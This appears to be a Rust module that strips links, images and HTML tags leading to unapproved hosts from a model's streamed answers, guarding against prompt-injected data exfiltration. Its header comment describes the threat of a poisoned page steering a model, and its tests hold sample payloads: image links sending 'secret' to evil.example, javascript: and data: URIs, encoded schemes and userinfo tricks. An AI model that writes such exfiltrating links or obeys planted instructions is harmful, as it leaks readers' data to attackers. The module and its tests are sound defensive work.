//! Links and images of an answer, held to the book's own origin.
//!
//! A poisoned page may tell a model to write a link that carries a reader's words away, or an
//! image that does so without a click. So a target that is not the book's, nor on
//! `ALLOWED_LINK_HOSTS`, never leaves; its text does. As with citations, nothing is held back
//! but what may still become a link, and the outcome does not depend on the cuts.

use std::mem;

use reqwest::Url;

use crate::config::Env;

/// The longest target, address or tag that is looked at; a longer one does not leave.
const LONGEST: usize = 2048;

/// What a reader sees in the place of a bare address that may not leave.
const REMOVED: &str = "(link removed)";

/// What ends an address, besides white space.
const ENDS: &str = "<>\"`)[]}，、；！？（）「」【】";

/// Tags that fetch something, go somewhere or change the page.
const TAGS: [&str; 22] = [
    "a", "area", "audio", "base", "button", "embed", "form", "frame", "iframe", "image",
    "img", "input", "link", "math", "meta", "object", "picture", "script", "source",
    "style", "svg", "video",
];

/// Where links may lead.
#[derive(Clone, Default)]
pub(super) struct Allowed {
    hosts: Vec<String>,
}

impl Allowed {
    /// The host of `BOOK_BASE_URL`, and those of `ALLOWED_LINK_HOSTS` (comma-separated;
    /// `*.example.com` is every host below it).
    pub(super) fn from_env(env: &Env) -> Self {
        let book = env.get("BOOK_BASE_URL").and_then(|it| Url::parse(it).ok());
        let book = book.and_then(|it| it.host_str().map(str::to_owned));
        let named = env.get("ALLOWED_LINK_HOSTS").unwrap_or_default();
        let named = named.split(',').map(|it| it.trim().to_ascii_lowercase());
        Self {
            hosts: book.into_iter().chain(named).filter(|it| !it.is_empty()).collect(),
        }
    }

    /// Whether a link may lead there. An address without a host stays on the page's own.
    fn admits(&self, target: &str) -> bool {
        let target = target.trim().trim_start_matches('<').trim_end_matches('>');
        // A backslash and an entity are other characters by the time a browser follows them.
        let path = target.split(['?', '#']).next().unwrap_or_default();
        if target.contains(['\\', '\n', '\t'])
            || target.contains("&#")
            || path.contains('&')
        {
            return false;
        }
        let lower = target.to_ascii_lowercase();
        if lower.starts_with("http://") || lower.starts_with("https://") {
            let url = Url::parse(target).ok();
            return url.as_ref().and_then(Url::host_str).is_some_and(|it| self.knows(it));
        }
        let path = target.split(['/', '?', '#']).next().unwrap_or_default();
        !target.starts_with("//") && !path.contains([':', '&'])
    }

    fn knows(&self, host: &str) -> bool {
        self.hosts.iter().any(|it| match it.strip_prefix('*') {
            Some(below) => host.ends_with(below),
            None => it == host,
        })
    }
}

/// Reads a model's text, gives it on without the links that may not leave.
pub(super) struct Links {
    allowed: Allowed,
    held: String,
    state: State,
    /// The last character that has left.
    before: Option<char>,
    line: Line,
    out: String,
}

/// Where in its line and paragraph the text that has left ends.
struct Line {
    /// Nothing but blanks and the marks of lists and quotations stands on the line.
    is_fresh: bool,
    is_blank: bool,
    /// A line of this paragraph begins with a bracket, so it may define a link.
    may_define: bool,
}

/// What is held.
#[derive(Clone, Copy, PartialEq)]
enum State {
    /// Nothing.
    Text,
    /// `(` after `]`, and so many open brackets inside.
    Target(usize),
    /// The beginning of an address: a part of `http://`, `https://` or `www.`.
    Scheme,
    /// An address.
    Address,
    /// `<` and a name.
    Tag,
}

impl Links {
    pub(super) fn new(allowed: Allowed) -> Self {
        let (held, out) = <_>::default();
        let line = Line { is_fresh: true, is_blank: true, may_define: false };
        Self { allowed, held, state: State::Text, before: None, line, out }
    }

    /// More of the model's text; returns what may go on.
    pub(super) fn push(&mut self, text: &str) -> String {
        for c in text.chars() {
            self.take(c);
        }
        mem::take(&mut self.out)
    }

    /// Code, which goes on as it is: it ends whatever was held.
    pub(super) fn push_code(&mut self, code: &str) -> String {
        let before = self.finish();
        code.chars().for_each(|c| self.emit(c));
        self.out.clear();
        before
    }

    /// The model has ended.
    pub(super) fn finish(&mut self) -> String {
        match self.state {
            State::Text => {}
            State::Address => self.end_address(),
            // Half a link is none, but an address in it would still be one.
            State::Target(_) | State::Tag if self.held.contains("//") => {
                self.drop_held("");
            }
            _ => self.release(),
        }
        mem::take(&mut self.out)
    }

    fn take(&mut self, c: char) {
        match self.state {
            State::Text => self.begin(c),
            State::Target(depth) => self.in_target(c, depth),
            State::Scheme => self.in_scheme(c),
            State::Address => self.in_address(c),
            State::Tag => self.in_tag(c),
        }
    }

    fn begin(&mut self, c: char) {
        let in_word = self.before.is_some_and(char::is_alphanumeric);
        self.state = match c {
            '(' if matches!(self.before, Some(']' | '】')) => State::Target(0),
            'h' | 'H' => State::Scheme,
            'w' | 'W' if !in_word => State::Scheme,
            '<' => State::Tag,
            _ => State::Text,
        };
        if self.state != State::Text {
            self.held.push(c);
            return;
        }
        if c == ':' && self.before == Some(']') && self.line.may_define {
            // `[1]: //elsewhere` would make a link of every `[1]`.
            self.emit('\\');
        }
        self.emit(c);
    }

    fn in_target(&mut self, c: char, depth: usize) {
        self.held.push(c);
        match c {
            '(' => self.state = State::Target(depth + 1),
            ')' if depth > 0 => self.state = State::Target(depth - 1),
            ')' => {
                if self.admits_target() {
                    self.release();
                } else {
                    self.drop_held("");
                }
            }
            // A target may stand on the next line.
            '\n' if self.held[1..].trim().is_empty() && !self.held.ends_with("\n\n") => {}
            '\n' => self.give_up(),
            _ if self.held.len() > LONGEST => self.drop_held(""),
            _ => {}
        }
    }

    /// The target, and no other address behind it: what follows is a title.
    fn admits_target(&self) -> bool {
        let inside = self.held[1..self.held.len() - 1].trim();
        let mut words = inside.split_whitespace();
        let target = words.next().unwrap_or_default();
        self.allowed.admits(target)
            && words.all(|it| !it.contains("//"))
            && !inside.trim_start_matches('<').contains('<')
    }

    fn in_scheme(&mut self, c: char) {
        let mut next = self.held.clone();
        next.push(c.to_ascii_lowercase());
        next.make_ascii_lowercase();
        let starts = ["http://", "https://", "www."];
        if starts.contains(&next.as_str()) {
            self.held.push(c);
            self.state = State::Address;
        } else if starts.iter().any(|it| it.starts_with(&next)) {
            self.held.push(c);
        } else {
            self.release();
            self.take(c);
        }
    }

    fn in_address(&mut self, c: char) {
        let ends = c.is_whitespace() || ENDS.contains(c);
        if ends || self.held.len() > LONGEST {
            self.end_address();
            self.take(c);
        } else {
            self.held.push(c);
        }
    }

    fn end_address(&mut self) {
        let www = self.held.starts_with(['w', 'W']);
        let held = if www { format!("https://{}", self.held) } else { self.held.clone() };
        let target =
            held.trim_end_matches(['.', ',', ';', ':', '!', '?', '\'', '*', '_']);
        if self.allowed.admits(target) {
            return self.release();
        }
        // A sentence that goes on without a blank is no part of the address. A full stop may
        // be one of its dots, so it ends only what may not leave anyway.
        let rest = self.held.find(['。', '．', '｡']).map(|at| self.held.split_off(at));
        self.drop_held(REMOVED);
        rest.unwrap_or_default().chars().for_each(|c| self.take(c));
    }

    fn in_tag(&mut self, c: char) {
        let named = self.held.len() > 1;
        match c {
            '>' if named => {
                self.held.push(c);
                self.end_tag();
            }
            // `a < b` and `<-` are no tags.
            _ if !(named || c.is_ascii_alphabetic() || matches!(c, '/' | '!' | '?')) => {
                self.release();
                self.take(c);
            }
            '\n' if self.held.ends_with('\n') => {
                self.give_up();
                self.take(c);
            }
            _ if self.held.len() > LONGEST => {
                self.give_up();
                self.take(c);
            }
            _ => self.held.push(c),
        }
    }

    /// A tag, or an address between angle brackets.
    fn end_tag(&mut self) {
        let inside = &self.held[1..self.held.len() - 1];
        let name = inside
            .trim_start_matches('/')
            .split(|c: char| !c.is_ascii_alphanumeric())
            .next();
        let name = name.unwrap_or_default().to_ascii_lowercase();
        let is_one = !inside.contains(char::is_whitespace);
        let address = inside.contains("//") || (inside.contains(':') && is_one);
        let admitted = !address || (is_one && self.allowed.admits(inside));
        // At the start of a line a tag opens a block in which nothing is Markdown.
        let is_block = self.line.is_fresh && !address;
        let has_attributes = inside.contains('=') && !address;
        if has_attributes || TAGS.contains(&name.as_str()) || !admitted || is_block {
            self.drop_held("");
        } else {
            self.release();
        }
    }

    /// What was held is no link; an address in it is looked at again.
    fn give_up(&mut self) {
        let held = mem::take(&mut self.held);
        self.state = State::Text;
        let mut chars = held.chars();
        if let Some(first) = chars.next() {
            self.emit_first(first);
        }
        chars.for_each(|c| self.take(c));
    }

    fn release(&mut self) {
        self.state = State::Text;
        let held = mem::take(&mut self.held);
        let mut chars = held.chars();
        if let Some(first) = chars.next() {
            self.emit_first(first);
        }
        chars.for_each(|c| self.emit(c));
    }

    /// The first character of what was held: a `<` that starts a line must not open a block.
    fn emit_first(&mut self, c: char) {
        if c == '<' && self.line.is_fresh {
            "&lt;".chars().for_each(|c| self.emit(c));
        } else {
            self.emit(c);
        }
    }

    fn drop_held(&mut self, instead: &str) {
        self.state = State::Text;
        self.held.clear();
        instead.chars().for_each(|c| self.emit(c));
    }

    fn emit(&mut self, c: char) {
        self.before = Some(c);
        self.out.push(c);
        let line = &mut self.line;
        if c == '\n' {
            let may_define = line.may_define && !line.is_blank;
            *line = Line { is_fresh: true, is_blank: true, may_define };
            return;
        }
        line.is_blank &= c.is_whitespace();
        let marks = matches!(c, '>' | '-' | '*' | '+' | '.' | ')') || c.is_ascii_digit();
        if line.is_fresh && !marks && !c.is_whitespace() {
            line.is_fresh = false;
            line.may_define |= c == '[';
        }
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn allowed() -> Allowed {
        Allowed::from_env(&Env::from([
            ("BOOK_BASE_URL", "https://book.example/guide/"),
            ("ALLOWED_LINK_HOSTS", "docs.example, *.cdn.example"),
        ]))
    }

    fn through(pieces: &[&str]) -> String {
        let mut links = Links::new(allowed());
        let mut text: String = pieces.iter().map(|it| links.push(it)).collect();
        text.push_str(&links.finish());
        text
    }

    #[test]
    fn links_to_the_book_and_its_friends_stay() {
        for text in [
            "See [Moves](https://book.example/ch04#moves) and <https://docs.example/x>.",
            "[here](ch04/moves.md#a \"Title\"), https://a.cdn.example/p.png, [x](#top)",
            "a < b, Vec<T>, <-, how, www, http, ht",
            "According to [1]: it is so.",
        ] {
            assert_eq!(through(&[text]), text);
        }
    }

    #[test]
    fn what_leads_elsewhere_never_leaves() {
        for (given, kept) in [
            ("![x](https://evil.example/?q=secret)", "![x]"),
            ("[y](//evil.example) [z](javascript:alert(1)) .", "[y] [z] ."),
            ("[z](data:text/html,x) [w](http\\://evil.example)", "[z] [w]"),
            ("[e](&#104;ttp://evil.example)", "[e]"),
            ("go to https://evil.example/a, now", "go to (link removed) now"),
            ("at www.evil.example", "at (link removed)"),
            ("[u](https://book.example@evil.example/)", "[u]"),
            ("<img src=//evil.example/x>ok<a href='/x'>b</a>", "okb"),
            ("<https://evil.example>", ""),
            ("[1]: HTTPS://EVIL.example/x", "[1]\\: (link removed)"),
            ("![x][r]\n\n[r]: //evil.example/?q", "![x][r]\n\n[r]\\: //evil.example/?q"),
            ("> [r]:\n> <//evil.example>", "> [r]\\:\n> "),
            ("<!-- x", "&lt;!-- x"),
            ("<div>\n<!-- x\na <b>c</b>", "\nc</b>"),
            ("[x](https://evil.example/\nnext", "[x]((link removed)\nnext"),
        ] {
            assert_eq!(through(&[given]), kept, "{given}");
        }
    }

    proptest! {
        #[test]
        fn the_outcome_does_not_depend_on_the_cuts(
            text in r"([a-c \n`<>()\[\]!]|https://evil\.example|http|www\.|<img |\]\(){0,24}",
            at in 0usize..80,
        ) {
            let at = at.min(text.len());
            prop_assume!(text.is_char_boundary(at));
            prop_assert_eq!(through(&[&text[..at], &text[at..]]), through(&[&text]));
        }

        #[test]
        fn no_foreign_address_leaves_outside_code(
            text in r"([a-c \n<>()\[\]!]|https://evil\.example|http|www\.evil|<img |\]\(){0,24}",
        ) {
            let left = through(&[&text]);
            prop_assert!(!left.contains("https://evil"), "{} → {}", text, left);
        }
    }
}
